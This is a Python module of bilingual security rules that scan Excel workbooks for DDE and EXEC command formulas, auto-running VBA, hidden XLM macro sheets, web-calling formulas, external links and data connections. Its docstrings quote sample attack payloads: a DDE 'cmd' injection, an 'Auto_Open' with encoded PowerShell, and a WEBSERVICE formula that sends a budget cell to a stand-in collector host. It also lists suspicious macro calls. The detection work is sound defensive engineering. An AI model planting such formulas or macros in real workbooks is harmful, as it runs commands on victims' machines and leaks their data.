"""SEC: what in a workbook can run code, reach outside the file or hide content — told before anyone opens it.

The package scan (``io/xlsx.py``, ``io/active.py``, ``io/vba.py``) notes the facts without running anything; these
rules judge them with ``core/security.py``'s vocabulary. Code that runs by itself or a command formula is an error,
an outside connection a warning, hidden content information. ``xl-campaign check inbox/ --select SEC`` makes
``check`` a gate for workbooks that arrive from outside.
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import unquote

from .. import security as X
from ..findings import Finding, Severity
from ..model import Plan, SecurityNote, a1
from .context import Context, Where
from .registry import rule

E, W, INFO = Severity.ERROR, Severity.WARNING, Severity.INFO
MAX_LISTED = 5  # names listed in one message before "…"


def _notes(plan: Plan, *kinds: str) -> list[SecurityNote]:
    return [note for note in plan.security_notes if note.kind in kinds]


def _where(note: SecurityNote) -> Where:
    if not note.sheet:
        return None
    return note.sheet, note.row, note.col or None


def _count(number: int, noun: str) -> str:
    """``1 formula`` / ``2 formulas`` (English messages)."""
    return f"{number} {noun}" if number == 1 else f"{number} {noun}s"


def _listed(items: list[str], ctx: Context) -> str:
    shown = items[:MAX_LISTED] + (["…"] if len(items) > MAX_LISTED else [])
    return ctx.people(shown)


def _unreadable(note: SecurityNote) -> str | None:
    """Why the part behind ``note`` could not be read, when it could not."""
    if "unreadable" in note.details:
        index = note.details.index("unreadable")
        return note.details[index + 1] if index + 1 < len(note.details) else "?"
    return None


def _formula_hits(plan: Plan) -> list[tuple[SecurityNote, X.FormulaHit]]:
    """Every formula function that runs something or reaches out, with the note (cell or defined name) it is in."""
    return [(note, hit) for note in _notes(plan, "formula", "name-formula") for hit in X.formula_hits(note.target)]


def _risky(hit: X.FormulaHit) -> bool:
    return hit.kind != X.LINK or X.link_risk(hit.argument) is not None


def _in_name(note: SecurityNote, ctx: Context) -> str:
    """" in the defined name X" when a formula lives in a name, not a cell."""
    if note.kind != "name-formula":
        return ""
    return ctx.t(f"（名称 {ctx.quote(note.name)} 中）", f" (in the defined name {ctx.quote(note.name)})")


# --- code that runs ------------------------------------------------------------------------------------------------


@rule("SEC001", "command-formula", E, "运行程序的公式", doc_zh="""
公式或链接会启动其他程序或调用代码（DDE、CALL、REGISTER、EXEC）。

检查内容：
    每个工作表（包括隐藏和深度隐藏的工作表、宏表）的单元格公式、条件格式和数据验证中的公式、定义的名称，以及
    文件包中的 DDE 链接部件（``xl/externalLinks`` 中的 ``ddeLink``）：DDE 写法 ``程序|'主题'!项目``（例如
    ``=cmd|' /C calc'!A0``）、``DDE()``/``DDEAUTO()``，以及调用 Windows 库或运行程序的 ``CALL``、
    ``REGISTER``、``REGISTER.ID``、``EXEC``。字符串里的同名文字不算。
为什么重要：
    打开工作簿并更新链接时，Excel 会询问是否启动 DDE 指定的程序；只要有人点了「是」，命令就会运行——这是
    通过表格传播恶意程序的常见手法。``CALL``/``REGISTER`` 在计算时执行 Windows 库中的代码。活动计划里不需要
    这类公式。
示例：
    任务表某个单元格中的 ``=cmd|' /C calc'!A0``；宏表中的 ``=EXEC("powershell …")``。
如何修复：
    删除该公式（选中单元格按 Delete），DDE 链接在「数据 ▸ 编辑链接」中断开；在弄清来源之前，打开文件时不要
    启用内容或更新链接。
""")
def command_formula(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A formula or link starts another program or calls code (DDE, CALL, REGISTER, EXEC).

    What it checks:
        Every formula of every sheet — hidden, very hidden and macro sheets included —, the formulas of conditional
        formats and data validations, defined names, and the package's DDE link parts (``ddeLink`` in
        ``xl/externalLinks``): the DDE form ``app|'topic'!item`` (e.g. ``=cmd|' /C calc'!A0``), ``DDE()`` and
        ``DDEAUTO()``, and ``CALL``, ``REGISTER``, ``REGISTER.ID`` and ``EXEC``, which call Windows libraries or
        run programs. The same words inside a text string do not count.
    Why it matters:
        When the workbook opens and its links update, Excel asks whether to start the program a DDE formula names;
        one click on *Yes* runs the command — a classic way to spread malware through spreadsheets. ``CALL`` and
        ``REGISTER`` run code from a Windows library when they are calculated. A campaign plan needs none of them.
    Example:
        ``=cmd|' /C calc'!A0`` in a Tasks cell; ``=EXEC("powershell …")`` on a macro sheet.
    How to fix:
        Delete the formula (select the cell, press Delete); break a DDE link with *Data ▸ Edit Links*. Until you
        know where it comes from, do not enable content or update links when opening the file.
    """
    hint = ("删除该公式（选中单元格按 Delete）；打开文件时不要启用内容或更新链接",
            "delete the formula (select the cell, press Delete); do not enable content or update links when opening "
            "the file")
    for note, hit in _formula_hits(plan):
        if hit.kind != X.COMMAND:
            continue
        where = _in_name(note, ctx)
        if hit.function in ("DDE", "DDEAUTO"):
            app = hit.argument.split("|", 1)[0].strip(" '=\"") or "?"
            zh = (f"公式{where}通过 DDE 启动其他程序：{hit.argument}。打开工作簿并更新链接时，Excel 会询问是否启动"
                  f"{ctx.quote(app)}；一旦同意，命令就会运行")
            en = (f"the formula{where} starts another program through DDE: {hit.argument}. When the workbook opens "
                  f"and its links update, Excel asks to start {ctx.quote(app)}; if someone agrees, the command runs")
        elif hit.function == "EXEC":
            zh = f"公式{where}运行程序（EXEC：{hit.argument or '…'}）"
            en = f"the formula{where} runs a program (EXEC: {hit.argument or '…'})"
        else:
            zh = f"公式{where}调用 Windows 库中的代码（{hit.function}：{hit.argument or '…'}）；计算时会在 Excel 之外运行代码"
            en = (f"the formula{where} calls code in a Windows library ({hit.function}: {hit.argument or '…'}); "
                  "calculating it runs code outside Excel")
        name_hint = ("在「公式 ▸ 名称管理器」中删除该名称", "delete the name in Formulas ▸ Name Manager")
        yield ctx.finding(_where(note), zh, en, field=hit.function, value=note.target,
                          hint=name_hint if note.kind == "name-formula" else hint)
    for note in _notes(plan, "dde-link"):
        items = _listed(list(note.details), ctx)
        zh = (f"工作簿包含指向程序{ctx.quote(note.name)}的 DDE 链接（主题{ctx.quote(note.target)}，项目 {items}，"
              f"{note.part}）：更新链接时 Excel 会启动该程序并向它请求数据")
        en = (f"the workbook holds a DDE link to the program {ctx.quote(note.name)} (topic {ctx.quote(note.target)}, "
              f"items {items}, {note.part}): when links update, Excel starts that program and asks it for data")
        yield ctx.finding(None, zh, en, field="DDE", value=f"{note.name}|{note.target}",
                          hint=("在「数据 ▸ 编辑链接」中断开该链接，并删除引用它的单元格",
                                "break the link in Data ▸ Edit Links and delete the cells that use it"))


def _vba_projects(plan: Plan) -> list[tuple[SecurityNote, list[SecurityNote], list[SecurityNote], list[str]]]:
    """Each VBA project: its note, the procedures Excel runs by itself, the suspicious calls, the addresses."""
    out = []
    for project in _notes(plan, "vba"):
        same = [n for n in plan.security_notes if n.part == project.part]
        out.append((project, [n for n in same if n.kind == "vba-procedure"], [n for n in same if n.kind == "vba-call"],
                    [n.target for n in same if n.kind == "vba-url"]))
    return out


_TRIGGERS = {X.OPEN: ("打开时", "on open"), X.CLOSE: ("关闭时", "on close"), X.EVENT: ("事件触发时", "on events")}


def _procedures(procedures: list[SecurityNote], triggers: tuple[str, ...], ctx: Context) -> list[str]:
    """``Module.Procedure (on open)`` for the procedures Excel runs at one of ``triggers``."""
    return [ctx.t(f"{p.target}.{p.name}（{_TRIGGERS[trigger][0]}）", f"{p.target}.{p.name} ({_TRIGGERS[trigger][1]})")
            for p in procedures if (trigger := X.vba_trigger(p.name) or "") in triggers]


def _calls_text(calls: list[SecurityNote], urls: list[str], ctx: Context) -> str:
    """"; its code runs programs or commands (Shell), downloads … (URLDownloadToFile); addresses: …"."""
    groups: dict[str, list[str]] = {}
    for call in calls:
        group = X.vba_call_group(call.name)
        if group is not None:
            groups.setdefault(group, []).append(call.name)
    parts = [ctx.t(f"{X.VBA_CALLS[group][0][0]}（{'、'.join(words[:3])}）",
                   f"{X.VBA_CALLS[group][0][1]} ({', '.join(words[:3])})") for group, words in groups.items()]
    text = ""
    if parts:
        text = ctx.t("；代码中有：" + "，".join(parts), "; its code " + "; ".join(parts))
    if urls:
        text += ctx.t("；地址：", "; addresses: ") + _listed(urls, ctx)
    return text


_VBA_HINT = ("另存为 .xlsx 副本（文件 ▸ 另存为 ▸ Excel 工作簿）即可去掉全部宏；不清楚宏的用途时，打开文件时不要启用宏",
             "save a copy as .xlsx (File ▸ Save As ▸ Excel Workbook), which drops every macro; if you do not know "
             "what the macros do, do not enable them when opening the file")


@rule("SEC002", "vba-runs-automatically", E, "VBA 宏会自动运行", doc_zh="""
VBA 宏会自动运行：打开或关闭工作簿时，Excel 会自行运行其中的过程。

检查内容：
    ``.xlsm``/``.xlam`` 等文件中的 VBA 工程（``xl/vbaProject.bin``）。用 oletools 的 olevba 读出各模块的源代码
    （不运行任何代码），找出 Excel 会自行运行的过程：打开时（``Auto_Open``、``Workbook_Open``、
    ``Workbook_Activate``、``Worksheet_Calculate``，以及 ActiveX 控件在绘制时触发的事件，如
    ``InkPicture1_Painted``）和关闭时（``Auto_Close``、``Workbook_BeforeClose``）。消息中还会列出代码里可疑的
    调用：运行程序（``Shell``、``WScript.Shell``）、联网下载（``URLDownloadToFile``、``XMLHTTP``）、创建外部
    对象、调用 Windows 系统库、写入或删除文件、修改注册表、发送按键等，以及代码中的网址。无法读取的 VBA 工程
    也按会自动运行处理。
为什么重要：
    只要打开文件的人点击「启用内容」，这些过程就会立即运行，并拥有该用户的全部权限——宏是通过办公文件传播
    恶意程序最常见的途径。活动计划不需要宏。
示例：
    ``Module1`` 中的 ``Sub Auto_Open()``，内含 ``Shell "powershell -enc …"``。
如何修复：
    另存为 .xlsx 副本（「文件 ▸ 另存为 ▸ Excel 工作簿」），副本中不会保留任何宏；不清楚宏的用途时，打开文件时
    不要启用宏，并向发件人确认。
""")
def vba_runs_automatically(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """VBA macros run by themselves: Excel runs procedures when the workbook opens or closes.

    What it checks:
        The VBA project of a workbook (``xl/vbaProject.bin`` in an ``.xlsm``, ``.xlam`` …). Its modules' source is
        read with oletools' olevba (nothing runs), and the procedures Excel runs by itself are found: on open
        (``Auto_Open``, ``Workbook_Open``, ``Workbook_Activate``, ``Worksheet_Calculate``, and the events ActiveX
        controls fire while they are drawn, such as ``InkPicture1_Painted``) and on close (``Auto_Close``,
        ``Workbook_BeforeClose``). The message also lists the suspicious calls in the code — running programs
        (``Shell``, ``WScript.Shell``), downloads (``URLDownloadToFile``, ``XMLHTTP``), other programs' objects,
        Windows libraries, writing or deleting files, the registry, keystrokes — and the web addresses it names.
        A VBA project that cannot be read counts as one that runs by itself.
    Why it matters:
        As soon as the person opening the file clicks *Enable Content*, these procedures run with all of that
        person's rights — macros are the most common way malware travels in office files. A campaign plan needs
        no macros.
    Example:
        ``Sub Auto_Open()`` in ``Module1`` holding ``Shell "powershell -enc …"``.
    How to fix:
        Save a copy as .xlsx (*File ▸ Save As ▸ Excel Workbook*): the copy keeps no macro. If you do not know what
        the macros do, do not enable them when opening the file, and ask the sender.
    """
    for project, procedures, calls, urls in _vba_projects(plan):
        why = _unreadable(project)
        if why is not None or "not-analysed" in project.details:
            reason = why if why is not None else ctx.t("未安装 oletools，无法读取过程", "oletools is not installed")
            yield ctx.finding(None, f"工作簿包含无法分析的 VBA 工程（{project.part}：{reason}），不知道它会运行什么，"
                                    "请按打开时会自动运行的代码处理",
                              f"the workbook holds a VBA project that could not be analysed ({project.part}: "
                              f"{reason}): what it runs is unknown — treat it as code that runs on open",
                              field="vba", value=project.part, hint=_VBA_HINT)
            continue
        automatic = _procedures(procedures, (X.OPEN, X.CLOSE), ctx)
        if not automatic:
            continue
        listed = _listed(automatic, ctx)
        signed = ctx.t("；工程有数字签名，若发布者受信任，Excel 不会询问就运行它", "; the project is signed: Excel runs "
                       "it without asking when its publisher is trusted") if "signed" in project.details else ""
        yield ctx.finding(None, f"VBA 工程（{project.part}）会自行运行 {listed}——只要启用宏就会执行"
                                f"{_calls_text(calls, urls, ctx)}{signed}",
                          f"the VBA project ({project.part}) runs {listed} by itself as soon as macros are enabled"
                          f"{_calls_text(calls, urls, ctx)}{signed}",
                          field="vba", value=", ".join(f"{p.target}.{p.name}" for p in procedures
                                                       if X.vba_trigger(p.name) in (X.OPEN, X.CLOSE)),
                          hint=_VBA_HINT)


@rule("SEC003", "vba-project", W, "包含 VBA 宏", doc_zh="""
工作簿包含 VBA 宏（不会在打开或关闭时自行运行）。

检查内容：
    ``xl/vbaProject.bin`` 中的 VBA 工程，其中没有打开或关闭时自行运行的过程（那些由 SEC002 报告）。消息列出
    模块、在有人编辑、点击或保存时运行的事件过程（``Worksheet_Change``、``CommandButton1_Click`` 等）、代码中的
    可疑调用和网址。
为什么重要：
    宏在被运行时拥有用户的全部权限：一个按钮、一次单元格编辑就可能运行程序或下载文件。来自外部的活动计划
    不应该带宏。
示例：
    带有 ``Sub 导出()`` 和一个 ``CommandButton1_Click`` 按钮过程的 ``.xlsm`` 文件。
如何修复：
    另存为 .xlsx 副本去掉宏；确实需要宏时，请发件人说明用途并签名。
""")
def vba_project(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """The workbook carries VBA macros (none runs by itself on open or close).

    What it checks:
        A VBA project in ``xl/vbaProject.bin`` without procedures that run by themselves on open or close (those
        are SEC002). The message lists its modules, the event procedures that run when someone edits, clicks or
        saves (``Worksheet_Change``, ``CommandButton1_Click`` …), and the suspicious calls and addresses in its code.
    Why it matters:
        A macro runs with all of the user's rights: one button or one cell edit can start a program or download a
        file. A campaign plan that comes from outside should carry no macros.
    Example:
        An ``.xlsm`` with ``Sub Export()`` and a button procedure ``CommandButton1_Click``.
    How to fix:
        Save a copy as .xlsx to drop the macros; when a macro is really needed, have the sender explain and sign it.
    """
    for project, procedures, calls, urls in _vba_projects(plan):
        if _unreadable(project) is not None or "not-analysed" in project.details:
            continue
        if _procedures(procedures, (X.OPEN, X.CLOSE), ctx):
            continue
        modules = [m for m in project.details if m != "signed"]
        events = _procedures(procedures, (X.EVENT,), ctx)
        events_text = ctx.t(f"；事件过程：{_listed(events, ctx)}", f"; event procedures: {_listed(events, ctx)}") \
            if events else ""
        yield ctx.finding(None, f"工作簿包含 VBA 工程（{project.part}，模块 {_listed(modules, ctx)}），宏在有人运行或"
                                f"触发事件时执行{events_text}{_calls_text(calls, urls, ctx)}",
                          f"the workbook carries a VBA project ({project.part}, modules {_listed(modules, ctx)}); its "
                          f"macros run when someone runs them or triggers an event{events_text}"
                          f"{_calls_text(calls, urls, ctx)}", field="vba", value=project.part, hint=_VBA_HINT)


_STATES = {"visible": ("可见", "visible"), "hidden": ("隐藏", "hidden"), "veryHidden": ("深度隐藏", "very hidden")}


@rule("SEC004", "excel4-macro-sheet", E, "Excel 4.0 宏表", doc_zh="""
工作簿包含 Excel 4.0 宏表（XLM），包括深度隐藏的宏表。

检查内容：
    ``xl/macrosheets/`` 中的宏表部件及其在工作簿中的显示状态，以及让 Excel 在打开时运行宏表的名称
    （``Auto_Open``、``_xlnm.Auto_Open`` 及以它开头的名称）。宏表单元格中的命令公式另由 SEC001 逐格报告。
为什么重要：
    宏表的每个单元格都是 Excel 执行的命令（``EXEC`` 运行程序，``CALL``/``REGISTER`` 调用系统库），启用宏后
    ``Auto_Open`` 会让它在打开时运行。宏表常被深度隐藏，是恶意文件偏爱的老手段，杀毒软件也常漏掉。
示例：
    深度隐藏的宏表 ``Macro1``，名称 ``_xlnm.Auto_Open`` 指向 ``Macro1!$A$1``。
如何修复：
    右键工作表标签 ▸ 删除；深度隐藏的宏表不会出现在标签中，另存为 .xlsx 副本即可去掉（.xlsx 不能保存宏表）。
""")
def excel4_macro_sheet(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """The workbook holds an Excel 4.0 (XLM) macro sheet, very hidden ones included.

    What it checks:
        Macro sheet parts (``xl/macrosheets/``) with their visibility in the workbook, and the names that make
        Excel run a macro sheet when the file opens (``Auto_Open``, ``_xlnm.Auto_Open`` and names starting so).
        The command formulas in its cells are reported cell by cell by SEC001.
    Why it matters:
        Every cell of a macro sheet is a command Excel executes (``EXEC`` runs programs, ``CALL``/``REGISTER``
        call system libraries), and ``Auto_Open`` runs it on open once macros are enabled. Macro sheets are often
        very hidden: an old trick malicious files still use, and one virus scanners often miss.
    Example:
        A very hidden macro sheet ``Macro1`` and the name ``_xlnm.Auto_Open`` pointing at ``Macro1!$A$1``.
    How to fix:
        Right-click the sheet tab ▸ *Delete*; a very hidden macro sheet has no tab: save a copy as .xlsx, which
        cannot hold macro sheets.
    """
    for note in _notes(plan, "macro-sheet"):
        label = ctx.quote(note.sheet) if note.sheet else note.part
        state = ctx.t(*_STATES.get(note.target, (note.target, note.target)))
        autos = _listed(list(note.details), ctx)
        auto_zh = f"；名称 {autos} 会让 Excel 在打开工作簿时运行它" if note.details else ""
        auto_en = f"; the name {autos} makes Excel run it when the workbook opens" if note.details else ""
        yield ctx.finding(_where(note), f"Excel 4.0 宏表{label}（{state}，{note.part}）：其单元格是 Excel 会执行的命令"
                                        f"{auto_zh}",
                          f"Excel 4.0 macro sheet {label} ({state}, {note.part}): its cells are commands Excel runs "
                          f"as a macro{auto_en}", field="macro-sheet", value=note.part,
                          hint=("右键工作表标签 ▸ 删除；深度隐藏的宏表可通过另存为 .xlsx 副本去掉",
                                "right-click its tab ▸ Delete; a very hidden one goes away when a copy is saved as "
                                ".xlsx, which cannot hold macro sheets"))


# --- outside connections -----------------------------------------------------------------------------------------


@rule("SEC005", "web-formula", W, "访问网络的公式", doc_zh="""
公式会访问网络或其他程序（WEBSERVICE、IMAGE、RTD）。

检查内容：
    每个工作表（包括隐藏的工作表）及条件格式、数据验证、定义的名称中的 ``WEBSERVICE``（包括
    ``FILTERXML(WEBSERVICE(…))`` 读取网页内容）、从网址加载图片的 ``IMAGE``，以及向实时数据服务器取数的
    ``RTD``。单独的 ``FILTERXML`` 只解析文本，不算。
为什么重要：
    每次计算（包括打开时的重算），Excel 都会向地址发送请求：对方服务器由此得知文件何时、从何处被打开，
    还能收到公式拼进网址的单元格内容——预算和渠道数据可能因此泄露。``RTD`` 会启动指定的程序并保持运行。
示例：
    ``=WEBSERVICE("https://collector.example/?b="&预算!J13)``。
如何修复：
    用数值替换公式（「复制 ▸ 选择性粘贴 ▸ 数值」）或删除它。
""")
def web_formula(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """A formula reaches out to the web or another program (WEBSERVICE, IMAGE, RTD).

    What it checks:
        Every formula of every sheet (hidden ones included), of conditional formats, data validations and defined
        names that calls ``WEBSERVICE`` (also as ``FILTERXML(WEBSERVICE(…))``, reading web content), ``IMAGE``
        (a picture from an address) or ``RTD`` (a real-time data server). ``FILTERXML`` alone only parses text
        and does not count.
    Why it matters:
        Each calculation — the one when the file opens too — sends a request to the address: that server learns
        when and from where the file is opened, and receives whatever cell values the formula puts into the
        address, so budget or channel figures can leak. ``RTD`` starts the named program and keeps it running.
    Example:
        ``=WEBSERVICE("https://collector.example/?b="&Budget!J13)``.
    How to fix:
        Replace the formula with its value (*Copy ▸ Paste Special ▸ Values*) or delete it.
    """
    for note in _notes(plan, "formula", "name-formula"):
        hits = [h for h in X.formula_hits(note.target) if h.kind == X.WEB]
        also = " + FILTERXML" if any(h.function == "FILTERXML" for h in hits) else ""
        where = _in_name(note, ctx)
        for hit in hits:
            address = hit.argument or ctx.t("公式拼出的地址", "an address the formula builds")
            if hit.function == "WEBSERVICE":
                zh = (f"公式{where}每次计算都会向 {address} 发送请求（WEBSERVICE{also}）：对方会知道文件何时、从何处被打开，"
                      "并收到公式放进地址的内容")
                en = (f"the formula{where} sends a request to {address} each time it is calculated (WEBSERVICE{also}): "
                      "that server learns when and from where the file is opened, and receives what the formula puts "
                      "into the address")
            elif hit.function == "IMAGE":
                zh = f"公式{where}每次计算都会从 {address} 加载图片（IMAGE）：对方会知道文件何时、从何处被打开"
                en = (f"the formula{where} loads a picture from {address} each time it is calculated (IMAGE): that "
                      "server learns when and from where the file is opened")
            elif hit.function == "RTD":
                zh = f"公式{where}向实时数据服务器 {ctx.quote(address)} 请求数据（RTD）：Excel 会启动该程序并保持运行"
                en = (f"the formula{where} asks the real-time data server {ctx.quote(address)} for data (RTD): Excel "
                      "starts that program and keeps it running")
            else:
                continue  # FILTERXML: said with the WEBSERVICE it reads
            yield ctx.finding(_where(note), zh, en, field=hit.function, value=note.target,
                              hint=("用数值替换公式（复制 ▸ 选择性粘贴 ▸ 数值）或删除它",
                                    "replace the formula with its value (Copy ▸ Paste Special ▸ Values) or delete it"))


@rule("SEC006", "external-reference", W, "外部引用", doc_zh="""
文件包指向外部：其他工作簿的链接，或文件之外的 XML 映射架构。

检查内容：
    指向其他工作簿的链接（``xl/externalLinks`` 部件及其目标路径），以及 ``schemaLocation`` 指向文件之外的 XML
    映射架构（``xl/xmlMaps.xml``）。DDE 链接属于 SEC001，OLE 链接属于 SEC009。（此规则原为 XF020，旧代码仍可
    用于 ``--select``/``--ignore`` 和 ``xl-campaign rule``。）
为什么重要：
    打开时 Excel 会提示更新链接，随后读取那个文件；指向网络共享（``\\\\服务器\\共享``）的链接会让 Windows 把
    用户的登录凭据发给该服务器。链接也暴露了发件人的文件夹结构和用户名。指向网络地址的架构位置则是诱使解析器
    向外连接的典型手法（类似 XXE）。本工具不会获取任何外部内容。
示例：
    引用 ``\\\\fileserver\\finance\\[预算2024.xlsx]Sheet1`` 的公式；XML 映射中的
    ``<xs:import schemaLocation="http://example.invalid/plan.xsd">``。
如何修复：
    「数据 ▸ 编辑链接 ▸ 断开链接」；删除 XML 映射（「开发工具 ▸ 源 ▸ XML 映射 ▸ 删除」）。
""")
def external_reference(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """The package points outside: links to other workbooks, XML map schemas outside the file.

    What it checks:
        Links to other workbooks (``xl/externalLinks`` parts and the paths they name) and XML map schemas
        (``xl/xmlMaps.xml``) whose ``schemaLocation`` is outside the file. DDE links are SEC001, OLE links SEC009.
        (This rule was XF020; the old code still works with ``--select``/``--ignore`` and ``xl-campaign rule``.)
    Why it matters:
        On opening, Excel offers to update the links and then reads those files; a link to a network share
        (``\\\\server\\share``) makes Windows send the user's sign-in to that server. Links also show the sender's
        folders and user name. A schema location on a network address is a classic way to make a parser reach out
        (XXE-style). Nothing is fetched by the checker.
    Example:
        A formula using ``\\\\fileserver\\finance\\[Budget2024.xlsx]Sheet1``; ``<xs:import
        schemaLocation="http://example.invalid/plan.xsd">`` inside an XML map.
    How to fix:
        *Data ▸ Edit Links ▸ Break Link*; remove the XML map (*Developer ▸ Source ▸ XML Maps ▸ Delete*).
    """
    for note in _notes(plan, "external-link"):
        why = _unreadable(note)
        if why is not None:
            yield ctx.finding(None, f"外部链接部件无法读取（{why}），链接去向不明", f"the external link parts could not be "
                              f"read ({why}): where they point is unknown", value=note.part,
                              hint=("「数据 ▸ 编辑链接 ▸ 断开链接」", "Data ▸ Edit Links ▸ Break Link"))
            continue
        target = unquote(note.target) or "?"
        share = X.link_risk(note.target) == X.UNC or target.startswith(("\\\\", "//"))
        unc_zh = "；这是网络共享路径，Windows 会把用户的登录凭据发给该服务器" if share else ""
        unc_en = "; it is a network share: Windows sends the user's sign-in to that server" if share else ""
        yield ctx.finding(None, f"工作簿链接到另一个工作簿：{target}（{note.part}）。打开时 Excel 会提示更新链接，随后读取"
                                f"该文件{unc_zh}",
                          f"the workbook links to another workbook: {target} ({note.part}). When it opens, Excel "
                          f"offers to update the link and then reads that file{unc_en}", value=target,
                          hint=("「数据 ▸ 编辑链接 ▸ 断开链接」", "Data ▸ Edit Links ▸ Break Link"))
    for note in _notes(plan, "xml-map"):
        yield ctx.finding(None, f"XML 映射指向文件之外的架构：{note.target}（{note.part}）；通过该映射导入或导出 XML 时，"
                                "Excel 或其他工具可能会访问这个地址",
                          f"an XML map names a schema outside the file: {note.target} ({note.part}); importing or "
                          "exporting XML through the map can make Excel or another tool fetch that address",
                          value=note.target,
                          hint=("删除 XML 映射（开发工具 ▸ 源 ▸ XML 映射 ▸ 删除）",
                                "delete the XML map (Developer ▸ Source ▸ XML Maps ▸ Delete)"))


_CONNECTION_KINDS = {"web": ("网页查询", "web query"), "text": ("文本文件", "text file"),
                     "database": ("数据库", "database"), "mashup": ("Power Query", "Power Query")}


@rule("SEC007", "data-connection", W, "数据连接", doc_zh="""
工作簿包含数据连接：网页查询、数据库、文本文件或查询表。

检查内容：
    ``xl/connections.xml`` 中的每个连接：名称、类型、来源（网址、连接字符串或文件；密码会被遮蔽），是否在打开
    文件时刷新、是否保存了密码，以及由它填充的查询表（``xl/queryTables``）所在的工作表。Power Query 查询由
    SEC008 报告。
为什么重要：
    刷新时 Excel 会连接该网址、数据库或文件，把外部数据写入单元格；设置了「打开文件时刷新」就会在打开时自动
    连接。连接字符串常带有服务器名、用户名甚至密码，随文件一起外泄。
示例：
    名为 ``销售数据`` 的网页查询 ``https://data.example/export.csv``，打开时刷新，填充 ``每日数据`` 工作表。
如何修复：
    「数据 ▸ 查询和连接」中删除该连接；至少取消「打开文件时刷新数据」，并从连接字符串中删除密码。
""")
def data_connection(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """The workbook holds data connections: web queries, databases, text files, query tables.

    What it checks:
        Each connection of ``xl/connections.xml``: its name, kind, source (address, connection string or file;
        passwords masked), whether it refreshes when the file opens or saves a password, and the sheets its query
        tables (``xl/queryTables``) fill. Power Query queries are SEC008.
    Why it matters:
        A refresh makes Excel connect to that address, database or file and write outside data into cells; with
        *Refresh data when opening the file* it connects as soon as the workbook opens. Connection strings often
        carry server names, user names and even passwords, which travel with the file.
    Example:
        A web query ``Sales`` on ``https://data.example/export.csv`` that refreshes on open and fills *Daily KPI*.
    How to fix:
        *Data ▸ Queries & Connections*: delete the connection; at least clear *Refresh data when opening the file*
        and remove any password from the connection string.
    """
    queries = bool(_notes(plan, "power-query"))
    for note in _notes(plan, "connection"):
        why = _unreadable(note)
        kind = next((k for k in _CONNECTION_KINDS if k in note.details), "database")
        if kind == "mashup" and queries:
            continue  # the Power Query behind it is SEC008
        source = X.mask_secrets(note.target) if note.target else ctx.t("未写明", "not stated")
        if why is not None:
            source = ctx.t(f"无法读取：{why}", f"could not be read: {why}")
        refresh = ctx.t("打开工作簿时自动刷新", "refreshes when the workbook opens") if "refresh-on-open" in note.details \
            else ctx.t("有人刷新数据时连接", "connects when someone refreshes the data")
        sheets = [d.split(":", 1)[1] for d in note.details if d.startswith("sheet:")]
        fills = ctx.t(f"，填充工作表 {_listed(sheets, ctx)}", f"; it fills {_listed(sheets, ctx)}") if sheets else ""
        secret = X.has_secret(note.target) or "saves-password" in note.details
        password = ctx.t("；文件中保存了密码", "; the file stores a password for it") if secret else ""
        kind_zh, kind_en = _CONNECTION_KINDS[kind]
        name_zh = ctx.quote(note.name) if note.name else ""
        name_en = f" {ctx.quote(note.name)}" if note.name else ""
        yield ctx.finding(None, f"数据连接{name_zh}（{kind_zh}：{source}）{refresh}{fills}{password}",
                          f"data connection{name_en} ({kind_en}: {source}) {refresh}{fills}{password}",
                          field=kind, value=source,
                          hint=("在「数据 ▸ 查询和连接」中删除该连接；至少取消「打开文件时刷新数据」",
                                "delete it in Data ▸ Queries & Connections; at least clear Refresh data when opening "
                                "the file"))


@rule("SEC008", "power-query", W, "Power Query 查询", doc_zh="""
工作簿包含 Power Query 查询（自定义 XML 中的数据混合包）。

检查内容：
    自定义 XML 部件（``customXml/item*.xml``）中的 ``DataMashup``：解码其中的 M 代码，列出查询名称和数据来源
    函数及其第一个参数（``Web.Contents("https://…")``、``File.Contents("C:\\…")``、``Sql.Database(…)`` 等）。
为什么重要：
    刷新数据时（若连接设为打开时刷新，则在打开时）查询会访问这些网址、文件和数据库，并能把数据写入工作表；
    M 代码在 Excel 界面中不易察觉。
示例：
    查询 ``汇率`` 读取 ``Web.Contents("https://rates.example/today")``。
如何修复：
    「数据 ▸ 查询和连接」中右键每个查询 ▸ 删除。
""")
def power_query(plan: Plan, ctx: Context) -> Iterator[Finding]:
    """The workbook holds Power Query queries (a data mashup in custom XML).

    What it checks:
        A ``DataMashup`` in a custom XML part (``customXml/item*.xml``): its M code is decoded and the queries'
        names and their source functions with the first argument are listed (``Web.Contents("https://…")``,
        ``File.Contents("C:\\…")``, ``Sql.Database(…)`` …).
    Why it matters:
        When the data is refreshed (or when the workbook opens, if its connection says so) the queries reach those
        addresses, files and databases and can write what they get into the sheets; M code is easy to overlook in
        Excel.
    Example:
        A query ``Rates`` reading ``Web.Contents("https://rates.example/today")``.
    How to fix:
        *Data ▸ Queries & Connections*: right-click each query ▸ *Delete*.
    """
    on_open = any("mashup" in n.details and "refresh-on-open" in n.details for n in _notes(plan, "connection"))
    for note in _notes(plan, "power-query"):
        queries = [ctx.quote(name) for name in note.target.split("\n") if name]
        names = ctx.t("、".join(queries), ", ".join(queries)) if queries else ctx.t("（未命名）", "(unnamed)")
        sources = _listed(list(note.details), ctx) if note.details else ctx.t("未能读出来源", "sources that could not "
                                                                                              "be read")
        when_zh = "刷新数据时及打开工作簿时" if on_open else "刷新数据时"
        when_en = "when the data is refreshed and when the workbook opens" if on_open else "when the data is refreshed"
        yield ctx.finding(None, f"Power Query 查询{names}（{note.part}）读取 {sources}；{when_zh}运行",
                          f"Power Query queries {names} ({note.part}) read from {sources}; they run {when_en}",
                          value=note.part, hint=("在「数据 ▸ 查询和连接」中右键每个查询 ▸ 删除",
                                                 "Data ▸ Queries & Connections: right-click each query ▸ Delete"))


@rule("SEC009", "embedded-object", W, "嵌入或链接的对象", doc_zh="""
工作表中有嵌入或链接的 OLE 对象（内嵌文件、Word/PDF 文档、链接到外部文件的对象）。

检查内容：
    ``xl/embeddings/`` 中的对象及其所在工作表、程序标识（``Package``、``Word.Document.12`` 等），打包对象所携带
    文件的名称，以及链接到外部文件的对象（``oleObject`` 的链接、``xl/externalLinks`` 中的 ``oleLink``）。
为什么重要：
